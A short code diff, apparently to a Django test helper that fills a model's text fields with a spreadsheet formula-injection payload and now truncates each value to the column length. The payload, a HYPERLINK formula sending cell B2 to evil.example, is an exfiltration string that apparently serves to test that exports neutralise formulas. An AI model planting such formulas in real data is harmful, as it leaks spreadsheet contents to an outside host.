@@ -62,7 +62,10 @@ def _poison(instance, prefix):
         targets.append(instance.user)
     for target in targets:
         text_fields = {
-            field.name: f'{prefix}HYPERLINK("http://evil.example/?x="&B2){field.name}'
+            # Cut to the column's length: PostgreSQL refuses longer values.
+            field.name: f'{prefix}HYPERLINK("http://evil.example/?x="&B2){field.name}'[
+                : field.max_length or None
+            ]
             for field in target._meta.concrete_fields
             if isinstance(field, (models.CharField, models.TextField))
             and not field.choices
